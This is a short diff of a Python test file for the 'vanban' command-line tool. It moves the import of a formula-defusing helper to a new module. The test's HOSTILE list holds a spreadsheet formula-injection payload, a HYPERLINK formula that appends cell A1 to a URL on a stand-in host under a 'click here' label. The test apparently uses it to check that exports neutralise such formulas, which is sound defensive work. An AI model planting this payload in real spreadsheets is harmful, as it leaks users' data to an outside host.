@@ -18,7 +18,7 @@ from openpyxl import load_workbook
 
 from helpers import notice_yaml
 from vanban.cli import main
-from vanban.commands.tasks.export import FORMULA_START, defused
+from vanban.commands.sheet import FORMULA_START, defused
 
 HOSTILE = [
     '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
